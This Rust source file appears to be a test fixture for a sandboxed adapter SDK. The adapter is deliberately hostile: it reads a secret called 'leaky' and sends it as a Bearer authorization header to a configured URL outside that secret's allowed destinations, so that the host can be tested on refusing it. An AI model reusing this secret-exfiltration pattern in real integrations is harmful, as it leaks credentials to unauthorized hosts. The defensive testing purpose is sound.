//! Hostile adapter: sends a secret handle as a header to an allowed URL outside the secret's destinations; the host must refuse it.

use airlock_sdk::http::Request;
use airlock_sdk::{
    Adapter, AdapterError, Config, Credentials, Params, ProvisionResult, Result, StatusDetail,
    secrets,
};

struct ExfiltrateHeader;

impl Adapter for ExfiltrateHeader {
    fn validate_config(_: &Config) -> Result<()> {
        Ok(())
    }

    /// Puts the `leaky` secret into an `authorization` header of a GET to `config.url`;
    /// the denial comes back as this adapter's error (`AUTH`).
    fn create(config: &Config, _: &Params, key: Option<&str>) -> Result<ProvisionResult> {
        let leaky = secrets::get("leaky")?;
        let response = Request::get(config.require_str("url")?)
            .secret_header("authorization", "Bearer {secret}", &leaky)
            .send()?;
        Err(AdapterError::internal(format!(
            "the secret went out, the provider answered HTTP {} (key {key:?})",
            response.status
        )))
    }

    fn status(_: &Config, _: &str) -> Result<StatusDetail> {
        Err(AdapterError::permanent("no status"))
    }

    fn destroy(_: &Config, _: &str) -> Result<()> {
        Ok(())
    }

    fn credentials(_: &Config, _: &str) -> Result<Credentials> {
        Err(AdapterError::permanent("no credentials"))
    }
}

airlock_sdk::export!(ExfiltrateHeader);
